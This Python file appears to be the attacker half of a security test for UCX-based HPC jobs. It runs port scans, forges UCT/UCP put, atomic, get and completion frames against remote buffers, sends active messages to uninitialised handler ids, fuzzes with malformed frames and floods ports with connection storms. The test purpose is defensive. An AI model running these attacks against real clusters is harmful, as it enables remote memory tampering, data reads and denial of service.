"""The attacker of test_outsider.py: one phase of an attack on a job's UCX ports per run.

    python ucx_attacker.py PHASE PLAN.json      (prints one JSON object: what happened)

It runs inside a network namespace (an outsider host on the job's network, or a job node's
own namespace) and speaks UCX's TCP wire format (ucx_wire.py).  PLAN.json says:

    {"me": "10.1.2.201",                  this host's address (named in CONN_REQs)
     "seed": 1234,                        every random choice derives from it
     "hosts": [{"host": "10.1.2.1",       a node of the job
                "ports": [40123, ...],    its ports to attack (found by the scan, or
                                          published by the victim: a strong attacker)
                "ucx_ports": [40123],     those that answered like UCX (the scan says)
                "targets": [[pe, address, length], ...]}],  the PEs' symmetric buffers
     "control": ["10.1.2.1", 47000],      PE 0's control-plane port (for the storm)
     "scan_range": [32768, 60999], "scan_seconds": 12, "storm_connects": 2000,
     "garbage_only": ["PUT_REQ"]}        (optional: the malformed inputs whose names
                                          contain one of these, for a closer look)

Every socket operation is bounded; a connection refused or timed out (a defence may drop
SYNs) is counted as blocked, never an error.  The phases are named in PHASES.
"""

import errno
import json
import os
import random
import select
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import ucx_wire as w  # noqa: E402

FILL = 0xEE  # the byte the attacker writes


class Tally:
    """What one phase did: connection outcomes, frames and bytes sent, what came back.  A port
    that blocked a connection (refused, or timed out: SYNs dropped) is not tried again in the
    phase: its later connections count as "skipped (blocked before)"."""

    def __init__(self):
        self.connections, self.frames, self.bytes = {}, 0, 0
        self.conn_acks, self.put_acks, self.reset_by_peer = 0, 0, 0
        self.blocked = set()

    def count(self, outcome):
        self.connections[outcome] = self.connections.get(outcome, 0) + 1

    def connect(self, host, port):
        """A raw connection (no UCX handshake) as a Session, or None."""
        if (host, port) in self.blocked:
            self.count("skipped (blocked before)")
            return None
        sock, why = w.connect(host, port)
        return self._outcome(host, port, why, w.Session(sock) if sock else None)

    def session(self, host, port, me, rng, handshake=True):
        """A UCX connection: the magic number and (handshake) a CONN_REQ; or None."""
        if (host, port) in self.blocked:
            self.count("skipped (blocked before)")
            return None
        s, why = w.open_uct(host, port, rng.getrandbits(62), me, rng.randrange(1024, 65536),
                            handshake=handshake)
        return self._outcome(host, port, why, s)

    def _outcome(self, host, port, why, session):
        self.count(why)
        if session is None:
            self.blocked.add((host, port))
        return session

    def send(self, session, frames, linger=0.3):
        """Sends frames on session, reads the answers for linger seconds, closes it."""
        sent = session.send(b"".join(frames))
        self.frames += len(frames) if sent else 0  # a port that hung up took none of them
        self.bytes += sent
        session.drain(linger)
        replies = session.replies()
        self.conn_acks += int(w.is_ucx_ack(session))
        self.put_acks += sum(1 for i, _ in replies if i == w.AM_PUT_ACK)
        self.reset_by_peer += int(session.closed_by_peer)
        session.close()

    def result(self, **extra):
        out = {"connections": self.connections, "frames": self.frames, "bytes": self.bytes,
               "conn_acks": self.conn_acks, "put_acks": self.put_acks,
               "closed_by_peer": self.reset_by_peer}
        out.update(extra)
        return out


def each_target(plan):
    """(host, port, pe, address, length) for every port of every host and every PE there."""
    for h in plan["hosts"]:
        for port in h["ports"]:
            for pe, address, length in h["targets"]:
                yield h["host"], port, pe, address, length


def odd_ids(n=32):
    """The ep ids an attacker tries first: UCX numbers endpoints 3, 5, 7, ..."""
    return [2 * k + 1 for k in range(n)]


def spots(address, length, count):
    """count 8-byte-aligned addresses spread over [address, address + length)."""
    step = max(8, (length // max(count, 1)) & ~7)
    return [address + (i * step) % (length - 64) for i in range(count)]


# --- phases ------------------------------------------------------------------------------------

def phase_scan(plan, rng):
    """Port scan of every host (bounded), then a UCX fingerprint of each open port: UCT
    answers a magic number + CONN_REQ with a CONN_ACK."""
    lo, hi = plan.get("scan_range") or w.local_port_range()
    per_host = plan.get("scan_seconds", 12) / max(1, len(plan["hosts"]))
    hosts, tally = {}, Tally()
    for h in plan["hosts"]:
        found, counts, done = w.scan(h["host"], range(lo, hi + 1),
                                     time.monotonic() + per_host)
        ucx = []
        for port in found:
            s = tally.session(h["host"], port, plan["me"], rng)
            if s is not None:
                if w.is_ucx_ack(s):
                    ucx.append(port)
                tally.send(s, [], linger=0.05)
        hosts[h["host"]] = {"open": found, "ucx": ucx, "outcomes": counts, "scanned": done,
                            "of": hi - lo + 1}
    return tally.result(hosts=hosts)


def per_target(plan, rng, frames_for):
    """One UCX connection to every port of every host per PE there, carrying the frames
    frames_for(address, length) aimed at that PE's buffer; returns the tally's result."""
    tally = Tally()
    for host, port, pe, address, length in each_target(plan):
        s = tally.session(host, port, plan["me"], rng)
        if s is not None:
            tally.send(s, frames_for(address, length))
    return tally.result()


def phase_uct_put(plan, rng):
    """Item 1: UCT's own PUT_REQ after a proper handshake, aimed at every PE's buffer."""
    return per_target(plan, rng, lambda address, length: [
        w.put_req(a, bytes([FILL]) * 64, sn=i) for i, a in enumerate(spots(address, length, 8))])


def phase_ucp_put(plan, rng):
    """Item 2: UCP software-RMA PUT with guessed odd ep ids."""
    ids = odd_ids()
    return per_target(plan, rng, lambda address, length: [
        w.ucp_put(a, i, bytes([FILL]) * 32) for i, a in zip(ids, spots(address, length, len(ids)))])


def _atomics(address, length):
    """add, and, or, xor without a reply; swap and compare-swap with a reply id; 32 and 64
    bits; every guessed odd ep id; each at a spot of its own."""
    frames, places = [], iter(spots(address, length, 12 * len(odd_ids())))
    for i in odd_ids():
        for size in (4, 8):
            for op in (w.ATOMIC_ADD, w.ATOMIC_AND, w.ATOMIC_OR, w.ATOMIC_XOR):
                frames.append(w.ucp_atomic_req(next(places), i, op, [0x5A5A5A5A], size))
            frames.append(w.ucp_atomic_req(next(places), i, w.ATOMIC_SWAP, [FILL], size,
                                           req_id=0x1001))
            frames.append(w.ucp_atomic_req(next(places), i, w.ATOMIC_CSWAP, [0, FILL], size,
                                           req_id=0x1003))
    return frames


def phase_ucp_atomic(plan, rng):
    """Item 2: UCP software atomics with guessed odd ep ids (_atomics)."""
    return per_target(plan, rng, _atomics)


def phase_ucp_get(plan, rng):
    """Item 2: UCP GET_REQ (a read of the buffer; the reply goes to the endpoint named)."""
    return per_target(plan, rng, lambda address, length: [
        w.ucp_get_req(address, 256, i, 0x2001 + 2 * i) for i in odd_ids()])


def phase_ucp_cmpl(plan, rng):
    """Item 2: forged UCP completions (CMPL) with guessed odd ep ids."""
    return per_target(plan, rng, lambda address, length: [
        w.ucp_cmpl(i) for i in odd_ids() for _ in range(4)])


def phase_ucp_bad_ids(plan, rng):
    """Item 2: the same requests with ep id 0, with pointer-like (even) ids, and aimed past
    the buffer (an unmapped address, a read far longer than any heap)."""
    tally = Tally()
    for host, port, pe, address, length in each_target(plan):
        ids = [0, address, address + 4096, 0x7F0000001000, 0x10]
        for i in ids:
            s = tally.session(host, port, plan["me"], rng)
            if s is not None:
                tally.send(s, [w.ucp_put(address, i, bytes([FILL]) * 16),
                               w.ucp_atomic_req(address + 64, i, w.ATOMIC_ADD, [1]),
                               w.ucp_get_req(address, 64, i, 0x3001),
                               w.ucp_cmpl(i)], linger=0.1)
        s = tally.session(host, port, plan["me"], rng)
        if s is not None:
            tally.send(s, [w.ucp_put(0x10, 3, bytes([FILL]) * 16),
                           w.ucp_get_req(address, 1 << 40, 3, 0x3003),
                           w.ucp_atomic_req(address, 3, 77, [1])], linger=0.1)
    return tally.result()


def phase_am_single(plan, rng):
    """Item 3: UCP AM_SINGLE (the user active-message path): every am id 0..15 without a user
    header (UCX 1.13 calls whatever its table holds for an id nobody registered below the
    table's capacity: ucp_am.c ucp_worker_set_am_handler_common leaves those entries
    uninitialised), then random ids 0..15 and random payloads.  The user-header length
    always fits the frame (a longer one trips an assertion in UCX itself, ucp_am.c
    ucp_am_handler_common, before any handler of ours runs)."""
    def frames_for(address, length):
        frames = [w.ucp_am_single(i, 0, rng.randbytes(rng.randrange(0, 65)))
                  for i in range(16) for _ in range(4)]
        for _ in range(200):
            body = rng.randbytes(rng.randrange(0, 257))
            frames.append(w.ucp_am_single(rng.randrange(16), rng.getrandbits(16), body,
                                          rng.randrange(len(body) + 1)))
        return frames
    return per_target(plan, rng, frames_for)


def _garbage_cases(plan, host, rng):
    """(name, handshake, bytes) of the malformed inputs, one connection each: handshake None
    sends the bytes alone, False after the magic number, True after magic and CONN_REQ."""
    other = [(h["host"], p) for h in plan["hosts"] if h["host"] != host for p in h["ucx_ports"]]
    cases = [("random bytes", None, rng.randbytes(rng.randrange(1, 4097))) for _ in range(8)]
    cases += [("magic + random bytes", False, rng.randbytes(rng.randrange(1, 4097)))
              for _ in range(8)]
    frames = b"".join(w.frame(rng.randrange(256), rng.randbytes(rng.randrange(300)))
                      for _ in range(100))
    cases.append(("random frames (am ids 0..255)", True, frames))
    for length in (w.RX_SEG_SIZE, 0xFFFFFFFF):
        cases.append((f"frame length {length}", True, struct.pack("<BI", 5, length) + bytes(64)))
    cases += [("CM packet of 2 bytes", True, w.frame(w.AM_CM, b"\x01\x00")),
              ("CONN_REQ of 10 bytes", True,
               w.frame(w.AM_CM, struct.pack("<i", w.CONN_REQ) + bytes(6))),
              ("unknown CM event", True, w.cm_event(7)),
              ("CONN_ACK, FIN", True, w.cm_event(w.CONN_ACK) + w.cm_event(w.CONN_FIN)),
              ("PUT_REQ of 3 bytes", True, w.frame(w.AM_PUT_REQ, b"abc")),
              ("PUT_ACK of the initial sequence number", True, w.put_ack(0xFFFFFFFF)),
              ("a second CONN_REQ", True, w.conn_req(rng.getrandbits(62), plan["me"], 1)),
              ("empty WIREUP message", True, w.frame(w.UCP_WIREUP, b""))]
    cases += [("CONN_REQ naming a job node's UCX interface", False,
               w.conn_req(sn, ohost, oport)) for ohost, oport in other for sn in range(4)]
    return cases


def phase_garbage(plan, rng):
    """Item 4: malformed input, each on a connection of its own: random bytes, random
    frames, oversized lengths, unknown ids, broken and forged CM packets, a PUT_REQ sent
    before any CONN_REQ, an empty UCP wire-up message."""
    tally = Tally()
    done = set()
    for host, port, pe, address, length in each_target(plan):
        if (host, port) in done:
            continue
        done.add((host, port))
        cases = _garbage_cases(plan, host, rng)
        cases.append(("PUT_REQ before the CONN_REQ", False,
                      w.put_req(address, bytes([FILL]) * 64)))
        only = plan.get("garbage_only")
        for name, handshake, data in cases:
            if only and not any(part in name for part in only):
                continue
            if handshake is None:  # not even the magic number
                s = tally.connect(host, port)
            else:
                s = tally.session(host, port, plan["me"], rng, handshake=handshake)
            if s is not None:
                tally.send(s, [data], linger=0.1)
    return tally.result()


def _storm(host, port, count, seconds, window=256):
    """count connections to host:port (at most `window` at once, at most `seconds`), each
    closed once it is made; returns {outcome: count}."""
    outcomes, pending, started = {}, {}, 0
    deadline = time.monotonic() + seconds
    while (started < count or pending) and time.monotonic() < deadline:
        while started < count and len(pending) < window:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            rc = s.connect_ex((host, port))
            started += 1
            if rc in (0, errno.EINPROGRESS):
                pending[s] = time.monotonic()
            else:
                outcomes[w.outcome_of(rc)] = outcomes.get(w.outcome_of(rc), 0) + 1
                s.close()
        _, ready, _ = select.select([], list(pending), [], 0.05)
        now = time.monotonic()
        for s in list(pending):
            if s in ready or now - pending[s] > w.CONNECT_TIMEOUT:
                rc = (s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) if s in ready
                      else errno.ETIMEDOUT)
                key = "connected" if rc == 0 else w.outcome_of(rc)
                outcomes[key] = outcomes.get(key, 0) + 1
                s.close()
                del pending[s]
    outcomes["timeout"] = outcomes.get("timeout", 0) + len(pending)
    for s in pending:
        s.close()
    outcomes["not started"] = count - started
    return outcomes


def phase_storm(plan, rng):
    """Item 5: thousands of connections to every attacked port and to PE 0's control plane."""
    n = plan.get("storm_connects", 2000)
    ports = sorted({(h["host"], p) for h in plan["hosts"] for p in h["ports"]})
    if plan.get("control"):
        ports.append(tuple(plan["control"]))
    t0 = time.monotonic()
    storms = {f"{host}:{port}": _storm(host, port, n, 4.0) for host, port in sorted(set(ports))}
    return {"storms": storms, "seconds": round(time.monotonic() - t0, 2)}


PHASES = {
    "scan": phase_scan, "uct_put": phase_uct_put, "ucp_put": phase_ucp_put,
    "ucp_atomic": phase_ucp_atomic, "ucp_get": phase_ucp_get, "ucp_cmpl": phase_ucp_cmpl,
    "ucp_bad_ids": phase_ucp_bad_ids, "am_single": phase_am_single, "garbage": phase_garbage,
    "storm": phase_storm,
}


def main(argv):
    if len(argv) != 3 or argv[1] not in PHASES:
        sys.stderr.write(f"usage: {argv[0]} {{{','.join(PHASES)}}} PLAN.json\n")
        return 2
    with open(argv[2]) as f:
        plan = json.load(f)
    w.raise_fd_limit()
    rng = random.Random(f"{plan.get('seed', 0)}/{argv[1]}")
    t0 = time.monotonic()
    result = PHASES[argv[1]](plan, rng)
    result.update(phase=argv[1], seconds=round(time.monotonic() - t0, 2))
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
